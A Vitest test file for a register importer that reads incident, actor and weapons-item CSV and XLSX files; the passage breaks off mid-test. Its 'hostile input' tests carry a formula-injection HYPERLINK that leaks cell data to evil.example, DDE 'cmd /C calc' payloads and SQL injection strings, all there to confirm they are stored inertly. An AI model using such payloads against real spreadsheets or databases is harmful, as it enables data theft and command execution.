import { randomBytes } from 'node:crypto';
import { sql } from 'kysely';
import { describe, expect, it } from 'vitest';
import { BULK_WRITE_ROWS, type Db } from '../db/store';
import { demoFiles } from '../demo/load';
import {
  countRows,
  noRows,
  csvFile,
  incidentRow,
  itemRow,
  KIDAL,
  registerFiles,
  SEVARE,
  smallRegister,
  SOFARA,
  utf8,
  xlsxFile,
} from '../test/fixtures';
import { emptiedStorePerTest, testStore } from '../test/store';
import { exportTables, toCsv } from './export';
import { emptyReport, writeParsed } from '../register/register.service';
import {
  formatProblem,
  importFiles,
  WORKER_MIN_BYTES,
  type ImportInput,
  type ImportOptions,
  type ImportReport,
} from './import';
import type { ReadLimits } from './read-table';
import { readImport } from './read-import';

let db: Db;
emptiedStorePerTest((opened) => (db = opened));

const run = (inputs: ImportInput[], options: Partial<ImportOptions> & { limits?: ReadLimits } = {}) =>
  importFiles(db, inputs, { user: 'test', ...options });

/** Imports what must be refused; checks nothing was written and gives the problems as the CLI prints them. */
async function rejected(
  inputs: ImportInput[],
  options: Partial<ImportOptions> & { limits?: ReadLimits } = {},
) {
  const before = await countRows(db);
  const report = await run(inputs, options);
  expect(report.ok).toBe(false);
  expect(await countRows(db)).toEqual(before);
  return { errors: report.errors.map(formatProblem), warnings: report.warnings.map(formatProblem), report };
}

/** Imports what must be accepted, and gives the report. */
async function accepted(inputs: ImportInput[], options: Partial<ImportOptions> = {}): Promise<ImportReport> {
  const report = await run(inputs, options);
  expect(report.errors.map(formatProblem)).toEqual([]);
  expect(report.ok).toBe(true);
  return report;
}

const seed = () => accepted(registerFiles());

const INCIDENT_HEADER = 'ref,date,type,country,place,summary';

async function storedIncident(ref: string) {
  return db
    .selectFrom('incidents')
    .leftJoin('actors', 'actors.id', 'incidents.actor_id')
    .selectAll('incidents')
    .select('actors.name as actor_name')
    .where('ref', '=', ref)
    .executeTakeFirstOrThrow();
}

describe('importing a valid register', () => {
  it('writes every kind and reports what it created', async () => {
    const report = await accepted(registerFiles());
    expect(report.dryRun).toBe(false);
    expect(report.tables.map((t) => [t.file, t.kind, t.rows, t.created, t.updated, t.unchanged])).toEqual([
      ['actors.csv', 'actors', 2, 2, 0, 0],
      ['incidents.csv', 'incidents', 3, 3, 0, 0],
      ['items.csv', 'items', 4, 4, 0, 0],
      ['baselines.csv', 'baselines', 1, 1, 0, 0],
      ['embargoes.csv', 'embargoes', 2, 2, 0, 0],
    ]);
    expect(await countRows(db)).toEqual({
      actors: 2,
      incidents: 3,
      items: 4,
      baselines: 1,
      embargoes: 2,
      audit_log: 12,
    });
    const sofara = await storedIncident(SOFARA);
    expect(sofara).toMatchObject({ date: '2016-09-01', date_precision: 'month', type: 'assassination' });
    // The alias "Katiba Macina" is settled to the actor's name.
    expect(sofara.actor_name).toBe('Katibat Macina');
  });
});

describe('after a bulk import', () => {
  it('brings the planner’s row counts up to date, so that queries are not planned for empty tables', async () => {
    const report = await accepted(demoFiles({ incidents: 40 }));
    const items = report.tables.find((t) => t.kind === 'items')!.created;
    expect(items).toBeGreaterThanOrEqual(BULK_WRITE_ROWS);
    const { rows } = await sql<{ reltuples: number }>`
      SELECT reltuples::integer AS reltuples FROM pg_class WHERE relname = 'items'`.execute(db);
    expect(rows[0]!.reltuples).toBe(items);
  });
});

describe('dates as mission spreadsheets write them', () => {
  it('reads day-first dates with dots, and the month’s name in English or French, to the precision given', async () => {
    const rows = [
      incidentRow({ ref: 'D1', date: '14.03.2021' }),
      incidentRow({ ref: 'D2', date: '14 mars 2021' }),
      incidentRow({ ref: 'D3', date: '14 March 2021' }),
      incidentRow({ ref: 'D4', date: 'août 2021' }),
      incidentRow({ ref: 'D5', date: '2021-03' }),
    ];
    await accepted([csvFile('incidents.csv', rows)]);
    const stored = await db
      .selectFrom('incidents')
      .select(['ref', 'date', 'date_precision'])
      .where('ref', 'in', ['D1', 'D2', 'D3', 'D4', 'D5'])
      .orderBy('ref')
      .execute();
    expect(stored.map((r) => [r.ref, String(r.date).slice(0, 10), r.date_precision])).toEqual([
      ['D1', '2021-03-14', 'day'],
      ['D2', '2021-03-14', 'day'],
      ['D3', '2021-03-14', 'day'],
      ['D4', '2021-08-01', 'month'],
      ['D5', '2021-03-01', 'month'],
    ]);
  });

  it('keeps reading a file’s numeric dates day first, refusing a US-style 03/14/2021', async () => {
    const { errors } = await rejected([
      csvFile('incidents.csv', [incidentRow({ ref: 'D6', date: '03/14/2021' })]),
    ]);
    expect(errors).toEqual(['incidents.csv:2: date: "03/14/2021" is not a real calendar date']);
  });
});

describe('all or nothing', () => {
  it('rejects a file with one bad row among good ones and writes nothing', async () => {
    const rows = [
      incidentRow({ ref: 'A1' }),
      incidentRow({ ref: 'A2' }),
      incidentRow({ ref: 'A3', date: '2021-02-30' }),
      incidentRow({ ref: 'A4' }),
    ];
    const { errors } = await rejected([csvFile('incidents.csv', rows)]);
    expect(errors).toEqual(['incidents.csv:4: date: "2021-02-30" is not a real calendar date']);
  });

  it('lists every problem of every file with its line and column, not only the first', async () => {
    const incidents = [
      incidentRow({ ref: 'A1', date: '2021-13-01' }),
      incidentRow({ ref: 'A2' }),
      incidentRow({ ref: 'A3', type: 'Picnic', country: 'Atlantis' }),
    ];
    const items = [
      itemRow({ ref: 'M-1', incident_ref: 'A2' }),
      itemRow({ ref: 'M-2', incident_ref: 'A2', category: 'spoon' }),
      itemRow({ ref: 'M-3', incident_ref: 'A2', quantity: '0' }),
    ];
    const { errors } = await rejected([csvFile('incidents.csv', incidents), csvFile('items.csv', items)]);
    expect(errors).toEqual([
      'incidents.csv:2: date: "2021-13-01" is not a real calendar date',
      expect.stringMatching(
        /^incidents\.csv:4: type: "Picnic" is not a known incident type \(one of: IED attack, /,
      ),
      'incidents.csv:4: country: "Atlantis" is not a country (ISO code or English or French name)',
      expect.stringMatching(/^items\.csv:3: category: "spoon" is not a known item category/),
      'items.csv:4: quantity: "0" is not a whole number of at least 1',
    ]);
  });

  it('reports a row’s every bad cell at once, and what refused rows name that the register does not know', async () => {
    const incidents = [
      incidentRow({
        ref: 'A1',
        date: '2031-01-01',
        lat: '200',
        mgrs: 'not-an-mgrs',
        killed: '-3',
        actor: 'JNMI',
        attribution: 'claimed',
      }),
    ];
    const items = [
      itemRow({ ref: 'M-1', incident_ref: 'A1', calibre: 'nine mm', quantity: '0' }),
      itemRow({ ref: 'M-2', incident_ref: 'A1' }),
    ];
    const { errors, report } = await rejected([
      csvFile('actors.csv', [{ name: 'JNIM', aliases: '', parent: '', from: '', to: '' }]),
      csvFile('incidents.csv', incidents),
      csvFile('items.csv', items),
    ]);
    expect(errors).toEqual([
      'incidents.csv:2: date: date is in the future',
      'incidents.csv:2: lat: latitude 200 is outside -90..90',
      'incidents.csv:2: mgrs: "not-an-mgrs" is not an MGRS grid reference (e.g. 30PXC 12345 67890)',
      'incidents.csv:2: killed: "-3" is not a whole number',
      'items.csv:2: quantity: "0" is not a whole number of at least 1',
      'incidents.csv:2: actor: unknown actor "JNMI" (did you mean "JNIM"?): add it to actors first',
      'items.csv:2: calibre: "nine mm" is not a calibre: write it like 7.62x39, 12.7x108 or 82 mm',
    ]);
    // M-2 names the refused incident: not reported as naming nothing.
    expect(report.errors.map((e) => e.code)).toEqual([
      'date_in_future',
      'latitude_out_of_range',
      'mgrs_unreadable',
      'not_a_whole_number',
      'not_a_whole_number',
      'unknown_actor',
      'calibre_unreadable',
    ]);
  });

  it('leaves a populated register exactly as it was when any row is bad', async () => {
    await seed();
    const before = await exportTables(db);
    const incidents = [
      incidentRow({ ref: SEVARE, date: '2015-08-07', killed: '99' }), // would be an update
      incidentRow({ ref: 'A-new' }), // would be a create
      incidentRow({ ref: 'A-bad', lat: '95', lon: '1' }),
    ];
    const { errors } = await rejected([csvFile('incidents.csv', incidents)]);
    expect(errors).toEqual(['incidents.csv:4: lat: latitude 95 is outside -90..90']);
    expect(await exportTables(db)).toEqual(before);
  });
});

describe('reading CSV text', () => {
  it('keeps line numbers right for rows after a quoted cell that spans several lines', async () => {
    const text = [
      INCIDENT_HEADER,
      'B1,2021-01-01,IED,ML,Gao,"first line',
      'second line',
      'third line"',
      'B2,2021-01-02,IED,Narnia,Gao,ok',
      'B3,2021-01-03,Picnic,ML,Gao,"said ""hello"""',
      '',
    ].join('\n');
    const { errors } = await rejected([csvFile('incidents.csv', text)]);
    expect(errors).toEqual([
      'incidents.csv:5: country: "Narnia" is not a country (ISO code or English or French name)',
      expect.stringMatching(/^incidents\.csv:6: type: "Picnic" is not a known incident type/),
    ]);
  });

  it('counts a CRLF inside a quoted cell, CRLF line ends and blank lines as the user sees them', async () => {
    const text = `${INCIDENT_HEADER}\r\n\r\nB1,2021-01-01,IED,ML,Gao,"a\r\nb"\r\n\r\nB2,2021-01-02,IED,XX,Gao,c\r\n`;
    const { errors } = await rejected([csvFile('incidents.csv', text)]);
    expect(errors).toEqual([
      'incidents.csv:6: country: "XX" is not a country (ISO code or English or French name)',
    ]);
  });

  it('reads a UTF-8 file with a byte-order mark without gluing the mark to the first header', async () => {
    await accepted([csvFile('incidents.csv', `\uFEFF${INCIDENT_HEADER}\nB1,2021-01-01,IED,ML,Ségou,x\n`)]);
    expect(await storedIncident('B1')).toMatchObject({ place: 'Ségou', type: 'ied_attack' });
  });

  it('reads semicolon-separated French Excel CSV with French headers and decimal commas', async () => {
    const text =
      'Référence;Date;Type;Pays;Région;Lieu;Latitude;Longitude;Tués;Blessés;Résumé\r\n' +
      'B1;07/08/2015;Attaque complexe;Mali;Mopti;Sévaré;14,5311;-4,0921;13;4;Attaque de l’hôtel, puis prise d’otages\r\n';
    const report = await accepted([csvFile('incidents.csv', text)]);
    expect(report.warnings).toEqual([]);
    expect(await storedIncident('B1')).toMatchObject({
      date: '2015-08-07',
      type: 'complex_attack',
      country: 'ML',
      admin1: 'Mopti',
      lat: 14.5311,
      lon: -4.0921,
      killed: 13,
      injured: 4,
      summary: 'Attaque de l’hôtel, puis prise d’otages',
    });
  });

  it('reads a Windows-1252 file with accents correctly and warns that it was not UTF-8', async () => {
    // é is 0xE9, à 0xE0 and ’ 0x92 in Windows-1252.
    const bytes = Buffer.from(
      'ref;date;type;pays;lieu\r\nB1;14/08/2021;Attaque \xe0 l\x92EEI;Mali;S\xe9var\xe9\r\n',
      'latin1',
    );
    const report = await accepted([{ name: 'incidents.csv', data: bytes }]);
    expect(report.warnings.map(formatProblem)).toEqual([
      'incidents.csv: the file is not UTF-8; it was read as Windows-1252 (Western European), as older Excel saves CSV',
    ]);
    expect(await storedIncident('B1')).toMatchObject({ place: 'Sévaré', type: 'ied_attack' });
  });

  it('reads UTF-16LE with a byte-order mark, tab-separated, as Excel saves "Unicode text"', async () => {
    const text = 'ref\tdate\ttype\tcountry\tplace\r\nB1\t2021-01-01\tIED\tCôte d’Ivoire\tGrand-Bassam\r\n';
    const data = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
    const report = await accepted([{ name: 'incidents.csv', data }]);
    expect(report.warnings).toEqual([]);
    expect(await storedIncident('B1')).toMatchObject({ country: 'CI', place: 'Grand-Bassam' });
  });

  it('rejects an empty (0-byte) file', async () => {
    const { errors } = await rejected([{ name: 'incidents.csv', data: new Uint8Array() }]);
    expect(errors).toEqual(['incidents.csv: the file is empty: a header row is expected']);
  });

  it('rejects a file of blank lines as empty', async () => {
    const { errors } = await rejected([csvFile('incidents.csv', '\r\n\r\n  \r\n')]);
    expect(errors).toEqual(['incidents.csv: the file is empty: a header row is expected']);
  });

  it('accepts a header-only file as an empty table and writes nothing', async () => {
    const before = await countRows(db);
    const report = await accepted([csvFile('incidents.csv', `${INCIDENT_HEADER}\r\n`)]);
    expect(report.tables).toEqual([
      { file: 'incidents.csv', kind: 'incidents', rows: 0, created: 0, updated: 0, unchanged: 0 },
    ]);
    expect(await countRows(db)).toEqual(before);
  });

  it('rejects a file cut off inside a quoted cell', async () => {
    const text = `${INCIDENT_HEADER}\nB1,2021-01-01,IED,ML,Gao,ok\nB2,2021-01-02,IED,ML,Gao,"cut off in the midd`;
    const { errors } = await rejected([csvFile('incidents.csv', text)]);
    expect(errors).toEqual(['incidents.csv:3: a quoted field is never closed: the file looks truncated']);
  });

  it('rejects a file whose last row was cut short', async () => {
    const text = `${INCIDENT_HEADER}\nB1,2021-01-01,IED,ML,Gao,ok\nB2,2021-01-02,IE`;
    const { errors } = await rejected([csvFile('incidents.csv', text)]);
    expect(errors).toEqual([
      'incidents.csv:3: row has 3 fields but the header has 6: the row looks truncated',
    ]);
  });

  it('rejects a row with more cells than the header (an unquoted separator)', async () => {
    const text = `${INCIDENT_HEADER}\nB1,2021-01-01,IED,ML,Gao,one, two\n`;
    const { errors } = await rejected([csvFile('incidents.csv', text)]);
    expect(errors).toEqual([
      'incidents.csv:2: row has 7 fields but the header has 6: check for an unquoted separator',
    ]);
  });

  it('rejects a zip file (an XLSX workbook) given as .csv and says to name it .xlsx', async () => {
    const workbook = await xlsxFile('register.xlsx', { incidents: [incidentRow()] });
    const { errors } = await rejected([{ name: 'incidents.csv', data: workbook.data }]);
    expect(errors).toEqual([
      'incidents.csv: this is a zip or XLSX file, not CSV text: give it the .xlsx extension',
    ]);
  });

  it('rejects a binary file given as .csv', async () => {
    const png = Buffer.from([
      0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d, 0x49, 0x48, 0x44, 0x52,
    ]);
    const { errors } = await rejected([{ name: 'incidents.csv', data: png }]);
    expect(errors).toEqual(['incidents.csv: this file is binary, not CSV text']);
  });

  it('rejects a NUL byte deep inside a text file instead of failing in the database', async () => {
    const text = `${INCIDENT_HEADER}\nB1,2021-01-01,IED,ML,Gao,${'x'.repeat(5000)}\u0000y\n`;
    const { errors } = await rejected([csvFile('incidents.csv', text)]);
    expect(errors).toEqual(['incidents.csv: this file is binary, not CSV text']);
  });

  it('rejects a file type it cannot read', async () => {
    const { errors } = await rejected([{ name: 'report.pdf', data: utf8('%PDF-1.7') }]);
    expect(errors).toEqual(['report.pdf: cannot import a .pdf file: give a .csv file or an .xlsx workbook']);
  });

  it('rejects a file whose name does not say what it holds, unless the kind is given', async () => {
    const file = csvFile('export-2021.csv', [incidentRow()]);
    const { errors } = await rejected([file]);
    expect(errors).toEqual([
      'export-2021.csv: cannot tell what this file holds: name it actors, incidents, items, baselines, embargoes (or give --kind)',
    ]);
    await accepted([{ ...file, kind: 'incidents' }]);
    expect((await countRows(db)).incidents).toBe(1);
  });

  it('tells the kind from the file name, not from the folder it is in', async () => {
    await accepted([csvFile('incidents.csv', [incidentRow()])]);
    const report = await accepted([csvFile('incident-2021/items.csv', [itemRow({ incident_ref: KIDAL })])]);
    expect(report.tables.map((t) => [t.file, t.kind, t.created])).toEqual([
      ['incident-2021/items.csv', 'items', 1],
    ]);
  });
});

describe('reading XLSX workbooks', () => {
  it('imports a workbook with one sheet per file name exactly as it imports the CSV files', async () => {
    await accepted(registerFiles());
    const fromCsv = await exportTables(db);
    const csvAudit = (await countRows(db)).audit_log;

    const other = await testStore();
    try {
      const workbook = await xlsxFile('register.xlsx', smallRegister());
      const report = await importFiles(other.db, [workbook], { user: 'test' });
      expect(report.errors.map(formatProblem)).toEqual([]);
      expect(report.tables.map((t) => [t.file, t.kind, t.rows, t.created])).toEqual([
        ['register.xlsx[actors]', 'actors', 2, 2],
        ['register.xlsx[incidents]', 'incidents', 3, 3],
        ['register.xlsx[items]', 'items', 4, 4],
        ['register.xlsx[baselines]', 'baselines', 1, 1],
        ['register.xlsx[embargoes]', 'embargoes', 2, 2],
      ]);
      expect(await exportTables(other.db)).toEqual(fromCsv);
      expect((await countRows(other.db)).audit_log).toBe(csvAudit);
    } finally {
      await other.close();
    }
  });

  it('names the sheet and row of a bad cell, and skips a sheet it cannot place with a warning', async () => {
    const workbook = await xlsxFile('register.xlsx', {
      incidents: [incidentRow({ ref: 'X1' }), incidentRow({ ref: 'X2', country: 'Narnia' })],
      'Read me': [{ note: 'exported from the JMAC database' }],
    });
    const { errors, warnings } = await rejected([workbook]);
    expect(errors).toEqual([
      'register.xlsx[incidents]:3: country: "Narnia" is not a country (ISO code or English or French name)',
    ]);
    expect(warnings).toEqual([
      'register.xlsx[Read me]: cannot tell what this sheet holds: name it actors, incidents, items, baselines, embargoes; the sheet was skipped',
    ]);
  });

  it('rejects a truncated workbook with a clear message', async () => {
    const workbook = await xlsxFile('register.xlsx', smallRegister());
    const cut = workbook.data.subarray(0, Math.floor((workbook.data.length * 2) / 3));
    const { errors } = await rejected([{ name: 'register.xlsx', data: cut }]);
    expect(errors).toEqual([
      expect.stringMatching(
        /^register\.xlsx: not a readable XLSX workbook \(.+\); the file may be truncated or not \.xlsx$/,
      ),
    ]);
  });

  it('rejects a text file given as .xlsx', async () => {
    const { errors } = await rejected([csvFile('register.xlsx', [incidentRow()])]);
    expect(errors).toEqual([expect.stringMatching(/^register\.xlsx: not a readable XLSX workbook/)]);
  });

  it('rejects a cell holding a NUL character (Excel’s _x0000_) with its sheet and row', async () => {
    const workbook = await xlsxFile('register.xlsx', { incidents: [incidentRow({ summary: 'a_x0000_b' })] });
    const { errors } = await rejected([workbook]);
    expect(errors).toEqual(['register.xlsx:2: incidents column 17: the cell holds a NUL character']);
  });
});

describe('columns', () => {
  it('warns about unknown columns and imports the known ones', async () => {
    const text = 'ref,date,type,country,colour,Weather \nB1,2021-01-01,IED,ML,red,dry\n';
    const report = await accepted([csvFile('incidents.csv', text)]);
    expect(report.warnings.map(formatProblem)).toEqual([
      'incidents.csv:1: unknown columns ignored: colour, Weather',
    ]);
    expect((await countRows(db)).incidents).toBe(1);
  });

  it('names a missing required column and writes nothing', async () => {
    const { errors, warnings } = await rejected([
      csvFile('incidents.csv', 'ref,date,kind,country\nB1,2021-01-01,IED,ML\n'),
    ]);
    expect(errors).toEqual(['incidents.csv:1: type: required column is missing']);
    expect(warnings).toEqual(['incidents.csv:1: unknown columns ignored: kind']);
  });

  it('rejects a column given twice', async () => {
    const { errors } = await rejected([
      csvFile('incidents.csv', 'ref,date,type,country,pays\nB1,2021-01-01,IED,ML,ML\n'),
    ]);
    expect(errors).toEqual(['incidents.csv:1: pays: this column appears twice']);
  });

  it('forgives header case, spacing, accents and French names, in any column order', async () => {
    const text =
      ' PAYS ,Type d’incident,  Référence,DATE,localite,Groupe armé,Statut d’attribution,tues,Casques bleus tués\n' +
      'Mali,Embuscade,B1,2016-09-18,Sofara,Katiba Macina,revendiqué,3,1\n';
    await accepted([csvFile('actors.csv', smallRegister().actors), csvFile('incidents.csv', text)]);
    expect(await storedIncident('B1')).toMatchObject({
      country: 'ML',
      type: 'small_arms_fire',
      date: '2016-09-18',
      place: 'Sofara',
      actor_name: 'Katibat Macina',
      attribution: 'claimed',
      killed: 3,
      peacekeepers_killed: 1,
    });
  });

  it('reads French vocabulary in cells', async () => {
    const items = [itemRow({ category: 'Munition', condition: 'Tiré (percuté)', incident_ref: KIDAL })];
    await accepted([
      csvFile('incidents.csv', [incidentRow({ type: 'Attaque à l’EEI' })]),
      csvFile('items.csv', items),
    ]);
    const item = await db.selectFrom('items').selectAll().executeTakeFirstOrThrow();
    expect(item).toMatchObject({ category: 'ammunition', condition: 'fired' });
  });
});

describe('checks across rows, files and the register', () => {
  it('rejects a ref that appears twice in one file, naming both lines', async () => {
    const rows = [incidentRow({ ref: 'B1' }), incidentRow({ ref: 'B2' }), incidentRow({ ref: 'B1' })];
    const { errors } = await rejected([csvFile('incidents.csv', rows)]);
    expect(errors).toEqual(['incidents.csv:4: ref: "B1" appears twice (first at incidents.csv:2)']);
  });

  it('rejects an unknown actor and suggests the closest known name', async () => {
    const { errors } = await rejected([
      csvFile('actors.csv', smallRegister().actors),
      csvFile('incidents.csv', [incidentRow({ actor: 'Katibat Macinna' })]),
    ]);
    expect(errors).toEqual([
      'incidents.csv:2: actor: unknown actor "Katibat Macinna" (did you mean "Katibat Macina"?): add it to actors first',
    ]);
  });

  it('suggests actors already in the register, and says nothing when no name is close', async () => {
    await seed();
    const { errors } = await rejected([
      csvFile('incidents.csv', [
        incidentRow({ ref: 'B1', actor: 'JNMI' }),
        incidentRow({ ref: 'B2', actor: 'Boko Haram' }),
      ]),
    ]);
    expect(errors).toEqual([
      'incidents.csv:2: actor: unknown actor "JNMI" (did you mean "JNIM"?): add it to actors first',
      'incidents.csv:3: actor: unknown actor "Boko Haram": add it to actors first',
    ]);
  });

  it('rejects an item whose incident is neither in the import nor in the register', async () => {
    await seed();
    const { errors } = await rejected([
      csvFile('items.csv', [
        itemRow({ ref: 'M-9', incident_ref: KIDAL }),
        itemRow({ ref: 'M-10', incident_ref: '99 nowhere' }),
      ]),
    ]);
    expect(errors).toEqual([
      'items.csv:3: incident_ref: no incident "99 nowhere" in this import or the register',
    ]);
  });

  it('accepts an item whose incident is already in the register', async () => {
    await seed();
    const report = await accepted([csvFile('items.csv', [itemRow({ ref: 'M-9', incident_ref: KIDAL })])]);
    expect(report.tables[0]).toMatchObject({ kind: 'items', created: 1 });
  });

  it('rejects an item produced after its incident', async () => {
    const register = smallRegister();
    register.items.push(itemRow({ ref: 'M-00005', incident_ref: SOFARA, year: '2019' }));
    const { errors } = await rejected(registerFiles(register));
    expect(errors).toEqual(['items.csv:6: year: produced in 2019, after the incident (2016)']);
  });
});

describe('dry run', () => {
  it('validates and counts what would change, and writes nothing', async () => {
    const report = await run(registerFiles(), { dryRun: true });
    expect(report).toMatchObject({ ok: true, dryRun: true, errors: [] });
    expect(report.tables.map((t) => [t.kind, t.rows, t.created, t.updated, t.unchanged])).toEqual([
      ['actors', 2, 2, 0, 0],
      ['incidents', 3, 3, 0, 0],
      ['items', 4, 4, 0, 0],
      ['baselines', 1, 1, 0, 0],
      ['embargoes', 2, 2, 0, 0],
    ]);
    expect(await countRows(db)).toEqual(noRows);
  });

  it('counts updates against the register and still writes nothing', async () => {
    await seed();
    const before = await countRows(db);
    const register = smallRegister();
    register.incidents[0] = { ...register.incidents[0]!, killed: '14' };
    const report = await run(registerFiles(register), { dryRun: true });
    expect(report.ok).toBe(true);
    expect(report.tables.find((t) => t.kind === 'incidents')).toMatchObject({
      created: 0,
      updated: 1,
      unchanged: 2,
    });
    expect(await countRows(db)).toEqual(before);
    expect((await storedIncident(SEVARE)).killed).toBe(13);
  });

  it('reports errors exactly as a real import does', async () => {
    const files = [csvFile('incidents.csv', [incidentRow({ ref: 'B1', country: 'Narnia' })])];
    const { errors } = await rejected(files, { dryRun: true });
    expect(errors).toEqual([
      'incidents.csv:2: country: "Narnia" is not a country (ISO code or English or French name)',
    ]);
    expect((await rejected(files)).errors).toEqual(errors);
  });
});

describe('re-import', () => {
  it('changes nothing and audits nothing when the same files are imported again', async () => {
    await seed();
    const before = await countRows(db);
    const report = await accepted(registerFiles());
    expect(report.tables.map((t) => [t.kind, t.created, t.updated, t.unchanged])).toEqual([
      ['actors', 0, 0, 2],
      ['incidents', 0, 0, 3],
      ['items', 0, 0, 4],
      ['baselines', 0, 0, 1],
      ['embargoes', 0, 0, 2],
    ]);
    expect(await countRows(db)).toEqual(before);
  });

  it('updates a changed row and writes one audit entry with its before and after', async () => {
    await seed();
    const before = await countRows(db);
    const register = smallRegister();
    register.incidents[0] = { ...register.incidents[0]!, killed: '14', summary: 'revised toll' };
    const report = await accepted(registerFiles(register));
    expect(report.tables.find((t) => t.kind === 'incidents')).toMatchObject({
      created: 0,
      updated: 1,
      unchanged: 2,
    });
    expect(report.tables.find((t) => t.kind === 'items')).toMatchObject({
      created: 0,
      updated: 0,
      unchanged: 4,
    });
    expect(await countRows(db)).toEqual({ ...before, audit_log: before.audit_log + 1 });

    const entry = await db
      .selectFrom('audit_log')
      .selectAll()
      .orderBy('id', 'desc')
      .limit(1)
      .executeTakeFirstOrThrow();
    expect(entry).toMatchObject({ actor: 'test', action: 'update', entity: 'incident', entity_key: SEVARE });
    expect(entry.before).toMatchObject({
      ref: SEVARE,
      killed: 13,
      summary: 'IED struck the lead vehicle of a logistics convoy',
    });
    expect(entry.after).toMatchObject({ ref: SEVARE, killed: 14, summary: 'revised toll' });
    expect((await storedIncident(SEVARE)).killed).toBe(14);
  });

  it('treats the same values written differently (French, case, spacing) as unchanged', async () => {
    await seed();
    const register = smallRegister();
    register.incidents[0] = {
      ...register.incidents[0]!,
      type: 'attaque COMPLEXE',
      country: ' Mali ',
      lat: '14,5311',
    };
    const report = await accepted(registerFiles(register));
    expect(report.tables.find((t) => t.kind === 'incidents')).toMatchObject({ updated: 0, unchanged: 3 });
  });
});

describe('hostile input', () => {
  it('stores formula-like cells as plain text, verbatim, and guards them on export', async () => {
    const formulas = {
      summary: '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
      target: "+cmd|' /C calc'!A0",
      source: '@SUM(1+1)*cmd|" /C calc"!A0',
      place: '-2+3',
    };
    await accepted([csvFile('incidents.csv', [incidentRow({ ref: 'B1', ...formulas })])]);
    expect(await storedIncident('B1')).toMatchObject(formulas);

    const exported = toCsv('incidents', (await exportTables(db)).incidents);
    expect(exported).toContain('"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click for details"")"');
    expect(exported).toContain("'+cmd|' /C calc'!A0");
    expect(exported).not.toMatch(/[,\n]"?[=+@]/);
  });

  it('stores SQL-like text verbatim and leaves the tables intact', async () => {
    const register = smallRegister();
    register.actors.push({
      name: "Ansar Dine' OR '1'='1",
      aliases: 'x" OR ""="',
      parent: '',
      from: '',
      to: '',
    });
    register.incidents[2] = { ...register.incidents[2]!, summary: "Robert'); DROP TABLE incidents;--" };
    register.items[0] = { ...register.items[0]!, notes: "'; DROP TABLE items; --" };
    await accepted(registerFiles(register));

    expect(await countRows(db)).toMatchObject({ actors: 3, incidents: 3, items: 4 });
    expect((await storedIncident(KIDAL)).summary).toBe("Robert'); DROP TABLE incidents;--");
    const item = await db
      .selectFrom('items')
      .select('notes')
      .where('ref', '=', 'M-00001')
      .executeTakeFirstOrThrow();
    expect(item.notes).toBe("'; DROP TABLE items; --");
    const actor = await db
      .selectFrom('actors')
      .selectAll()
      .where('name', '=', "Ansar Dine' OR '1'='1")
      .executeTakeFirstOrThrow();
    expect(actor.aliases).toEqual(['x" OR ""="']);
    const { rows } = await sql<{
      n: number;
    }>`select count(*)::int as n from information_schema.tables where table_name in ('items', 'incidents', 'actors')`.execute(
      db,
    );
    expect(rows[0]!.n).toBe(3);
  });

  it('stores a very long free-text cell whole', async () => {
    const long = randomBytes(75_000).toString('base64'); // 100,000 characters that do not compress
    await accepted([csvFile('incidents.csv', [incidentRow({ ref: 'B1', summary: long })])]);
    expect((await storedIncident('B1')).summary).toBe(long);
  });

  it('rejects an over-long ref with a located error instead of failing in the database', async () => {
    const longRef = randomBytes(15_000).toString('base64');
    const { errors } = await rejected([
      csvFile('incidents.csv', [incidentRow({ ref: 'B1' }), incidentRow({ ref: longRef })]),
    ]);
    expect(errors).toEqual([
      'incidents.csv:3: ref: the cell is 20000 characters long; at most 200 are allowed in this column',
    ]);
  });

  it('rejects a baseline row whose identifying cells are too long together', async () => {
    // Four cells of 200 three-byte letters each: every cell is allowed, their joined key is not.
    const letters = (n: number) =>
      String.fromCharCode(...Array.from({ length: 200 }, (_, i) => 0x4e00 + n * 200 + i));
    const row = {
      holder: letters(0),
      country: 'ML',
      category: 'weapon',
      model: letters(1),
      calibre: '7.62x39',
      manufacturer: letters(2),
      country_of_manufacture: 'SU',
      year: '1976',
      lot: letters(3),
      source: '',
    };
    const { errors } = await rejected([csvFile('baselines.csv', [row])]);
    expect(errors).toEqual([
      expect.stringMatching(
        /^baselines\.csv:2: the cells that identify this row are too long together \(\d+ bytes; at most 2000\)$/,
      ),
    ]);
  });
});

/** Files from WORKER_MIN_BYTES on are read and checked in a worker thread, off the server's. */
describe('a large import read in a worker thread', () => {
  const incidents = (n: number) =>
    Array.from({ length: n }, (_, i) =>
      incidentRow({ ref: `BIG-${String(i).padStart(5, '0')}`, summary: `a summary of some length, ${i}` }),
    );

  it('reports a bad row of a large file by its line and column, and writes nothing', async () => {
    const rows = incidents(2000);
    rows[1234] = { ...rows[1234]!, date: '2021-02-30', country: 'Atlantis' };
    const file = csvFile('incidents.csv', rows);
    expect(file.data.byteLength).toBeGreaterThan(WORKER_MIN_BYTES);
    const { errors } = await rejected([file, csvFile('items.csv', [itemRow({ incident_ref: 'BIG-00001' })])]);
    expect(errors).toEqual([
      expect.stringMatching(/^incidents\.csv:1236: date: /),
      expect.stringMatching(/^incidents\.csv:1236: country: /),
    ]);
  });

  it('writes a large file read in a worker as it would write it read on the thread', async () => {
    const inputs = [
      csvFile('incidents.csv', incidents(2000)),
      csvFile('items.csv', [
        itemRow({ incident_ref: 'BIG-00001' }),
        itemRow({ ref: 'M-2', incident_ref: 'BIG-00002', manufacturer: 'Nowhere Works' }),
      ]),
    ];
    expect(inputs[0]!.data.byteLength).toBeGreaterThan(WORKER_MIN_BYTES);
    const options = { user: 'test', dryRun: true };
    const inWorker = await importFiles(db, inputs, options);
    const onThread = emptyReport(options);
    await writeParsed(db, await readImport(inputs, undefined, onThread), onThread, options);
    expect(inWorker).toEqual(onThread);
    expect(inWorker.tables.map((t) => [t.file, t.created])).toEqual([
      ['incidents.csv', 2000],
      ['items.csv', 2],
    ]);
    expect(inWorker.warnings.length).toBeGreaterThan(0);
    const written = await accepted(inputs);
    expect(written.tables.map((t) => t.created)).toEqual([2000, 2]);
    expect((await countRows(db)).incidents).toBe(2000);
  });

  it('refuses a large file beyond the row limit in the worker, and writes nothing', async () => {
    const { errors } = await rejected([csvFile('incidents.csv', incidents(2000))], {
      limits: { maxRows: 1000, maxExpandedBytes: 1024 * 1024 },
    });
    expect(errors).toEqual([
